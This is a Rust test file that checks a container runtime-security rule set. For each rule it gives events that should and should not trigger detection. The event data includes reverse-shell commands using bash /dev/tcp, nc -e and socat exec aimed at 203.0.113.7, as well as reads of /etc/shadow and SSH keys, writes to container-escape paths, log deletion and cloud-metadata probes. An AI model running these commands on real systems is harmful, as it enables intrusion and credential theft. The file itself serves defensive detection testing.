//! Each rule of the default set beside an event that triggers it and one, as near as can be,
//! that must not.

mod support;

use std::collections::BTreeSet;

use support::{event, matching};
use tenantry_rules::{DEFAULT, RuleSet};

/// Rule, what triggers it, what does not.
const TABLE: &[(&str, &str, &str)] = &[
    (
        "shell_in_container",
        "exec process.executable=/bin/sh process.args=sh process.parent.name=tenantry-shim",
        "exec process.executable=/bin/sh process.args=sh process.parent.name=bash",
    ),
    (
        "shell_in_container",
        "exec process.executable=/usr/bin/bash",
        "exec process.executable=/bin/shutdown process.args=/bin/sh",
    ),
    (
        "shell_interactive",
        "exec process.executable=/bin/bash process.args=bash|-i",
        "exec process.executable=/bin/bash process.args=bash|-c|ls",
    ),
    (
        "shell_from_server",
        "exec process.executable=/bin/dash process.parent.name=nginx",
        "exec process.executable=/bin/dash process.parent.name=cron",
    ),
    (
        "shell_from_server",
        "exec process.executable=/bin/sh process.parent.name=env process.ancestors.name=env|java",
        "exec process.executable=/bin/ls process.parent.name=java process.ancestors.name=java",
    ),
    (
        "shell_connects",
        "connect process.name=bash destination.ip=203.0.113.7 destination.port=4444",
        "connect process.name=bash destination.path=/dev/log",
    ),
    (
        "shell_connects",
        "connect process.name=sh destination.ip=2001:db8::1",
        "connect process.name=ssh destination.ip=2001:db8::1",
    ),
    (
        "reverse_shell_command",
        "exec process.executable=/bin/bash process.args=bash|-c|bash>&/dev/tcp/203.0.113.7/1",
        "exec process.executable=/bin/bash process.args=bash|-c|ls/dev/tty",
    ),
    (
        "reverse_shell_command",
        "exec process.executable=/usr/bin/nc process.args=nc|203.0.113.7|4444|-e|/bin/sh",
        "exec process.executable=/usr/bin/nc process.args=nc|-z|db|5432",
    ),
    (
        "reverse_shell_command",
        "exec process.executable=/usr/bin/socat process.args=socat|tcp:203.0.113.7:1|exec:/bin/sh",
        "exec process.executable=/usr/bin/socat process.args=socat|tcp:db:1|stdout",
    ),
    (
        "write_below_etc",
        "open event.outcome=success file.path=/etc/passwd file.flags=O_WRONLY|O_APPEND",
        "open event.outcome=success file.path=/etc/passwd file.flags=O_RDONLY|O_CLOEXEC",
    ),
    (
        "write_below_etc",
        "file event.outcome=success syscall.name=renameat2 file.path=/tmp/x file.target_path=/etc/x",
        "file event.outcome=failure syscall.name=renameat2 file.path=/tmp/x file.target_path=/etc/x",
    ),
    (
        "write_below_etc",
        "file event.outcome=success syscall.name=unlinkat file.path=/etc/hosts process.name=rm",
        "file event.outcome=success syscall.name=unlinkat file.path=/etc/hosts process.name=dpkg",
    ),
    (
        "write_below_binaries",
        "file event.outcome=success syscall.name=fchmodat file.path=/usr/bin/sudo",
        "file event.outcome=success syscall.name=fchmodat file.path=/usr/share/bin/sudo",
    ),
    (
        "write_below_binaries",
        "open event.outcome=success file.path=/lib/x.so file.flags=O_RDWR",
        "open event.outcome=success file.path=/library/x.so file.flags=O_RDWR",
    ),
    (
        "write_escape_path",
        "open file.path=/sys/fs/cgroup/rdma/release_agent file.flags=O_WRONLY event.outcome=failure",
        "open file.path=/sys/fs/cgroup/rdma/release_agent file.flags=O_RDONLY event.outcome=failure",
    ),
    (
        "write_escape_path",
        "open file.path=/proc/sys/kernel/core_pattern file.flags=O_WRONLY",
        "open file.path=/proc/sys/kernel/hostname file.flags=O_WRONLY",
    ),
    (
        "credentials_read",
        "open file.path=/etc/shadow file.flags=O_RDONLY event.outcome=failure",
        "open file.path=/etc/shadows file.flags=O_RDONLY event.outcome=failure",
    ),
    (
        "credentials_read",
        "open file.path=/home/me/.ssh/id_ed25519 file.flags=O_RDONLY",
        "open file.path=/home/me/.ssh/known_hosts file.flags=O_RDONLY",
    ),
    (
        "logs_removed",
        "file event.outcome=success syscall.name=unlinkat file.path=/var/log/auth.log process.name=rm",
        "file event.outcome=success syscall.name=unlinkat file.path=/var/log/auth.log process.name=logrotate",
    ),
    (
        "package_manager",
        "exec process.executable=/usr/bin/apt-get process.args=apt-get|install|nmap",
        "exec process.executable=/usr/lib/apt-gets process.args=apt-get",
    ),
    ("memfd_exec", "exec process.executable=/memfd:x", "exec process.executable=/opt/memfd:x"),
    (
        "exec_from_temporary",
        "exec process.executable=/dev/shm/x",
        "exec process.executable=/srv/tmp/x",
    ),
    (
        "mount",
        "mount event.outcome=success syscall.name=mount file.path=/dev/sda1 file.target_path=/mnt",
        "mount event.outcome=failure syscall.name=mount file.path=/dev/sda1 file.target_path=/mnt",
    ),
    (
        "namespace_change",
        "namespace event.outcome=success syscall.name=setns",
        "namespace event.outcome=failure syscall.name=setns",
    ),
    (
        "ptrace",
        "ptrace event.outcome=success syscall.name=ptrace process.name=x target.pid=1",
        "ptrace event.outcome=success syscall.name=ptrace process.name=gdb target.pid=1",
    ),
    (
        "kernel_module",
        "kernel event.outcome=failure syscall.name=finit_module",
        "kernel event.outcome=failure syscall.name=bpf",
    ),
    (
        "bpf",
        "kernel event.outcome=failure syscall.name=bpf",
        "kernel event.outcome=success syscall.name=init_module",
    ),
    ("capability_denied", "capability event.outcome=failure", "capability event.outcome=success"),
    (
        "signal_to_other_container",
        "signal process.signal=9 target.pid=7 target.container.id=c0ffee",
        "signal process.signal=9 target.pid=7",
    ),
    (
        "container_socket",
        "connect destination.path=/var/run/docker.sock process.name=curl",
        "connect destination.path=/run/mysqld/mysqld.sock process.name=curl",
    ),
    (
        "container_socket",
        "connect destination.path=/run/tenantry/tenantry.sock",
        "connect destination.path=/run/tenantry/tenantry.sock.old",
    ),
    (
        "cloud_metadata",
        "connect destination.ip=169.254.169.254 destination.port=80 process.name=curl",
        "connect destination.ip=169.254.169.253 destination.port=80 process.name=curl",
    ),
    (
        "cloud_metadata",
        "connect destination.ip=::ffff:169.254.169.254 process.name=curl",
        "connect destination.ip=::ffff:169.254.0.1 process.name=curl",
    ),
    (
        "cloud_metadata",
        "connect destination.ip=fd00:ec2::254 process.name=curl",
        "connect destination.ip=fd00:ec2::253 process.name=curl",
    ),
    (
        "cloud_metadata_name",
        "dns dns.question.name=metadata.google.internal",
        "dns dns.question.name=example.org",
    ),
];

fn rules() -> RuleSet {
    RuleSet::build(&[DEFAULT]).unwrap_or_else(|problems| panic!("{problems}"))
}

#[test]
fn each_default_rule_matches_what_it_is_for_and_not_what_looks_like_it() {
    let rules = rules();
    for (rule, triggers, triggers_not) in TABLE {
        assert!(matching(&rules, &event(triggers)).contains(rule), "{rule}: {triggers}");
        assert!(!matching(&rules, &event(triggers_not)).contains(rule), "{rule}: {triggers_not}");
    }
}

#[test]
fn no_default_rule_is_without_its_rows() {
    let rules = rules();
    let written: BTreeSet<&str> = rules.rules().iter().map(|rule| rule.name.as_str()).collect();
    let tested: BTreeSet<&str> = TABLE.iter().map(|(rule, _, _)| *rule).collect();
    assert_eq!(written, tested);
}

#[test]
fn what_a_quiet_container_does_matches_nothing() {
    let rules = rules();
    for quiet in [
        "exec process.executable=/usr/sbin/nginx process.args=nginx process.parent.name=tenantry-shim",
        "exit process.exit_code=0",
        "open event.outcome=success file.path=/var/lib/app/data file.flags=O_RDWR|O_CREAT",
        "file event.outcome=success syscall.name=rename file.path=/data/a file.target_path=/data/b",
        "connect event.outcome=success destination.ip=10.88.0.7 destination.port=5432",
        "accept source.ip=10.88.0.9 source.port=40000",
        "credentials event.outcome=success syscall.name=setuid",
    ] {
        assert_eq!(matching(&rules, &event(quiet)), [""; 0], "{quiet}");
    }
}

#[test]
fn every_default_rule_is_held_to_a_rate() {
    for rule in rules().rules() {
        assert!(rule.rate.is_some() && rule.enabled, "{}", rule.name);
    }
}
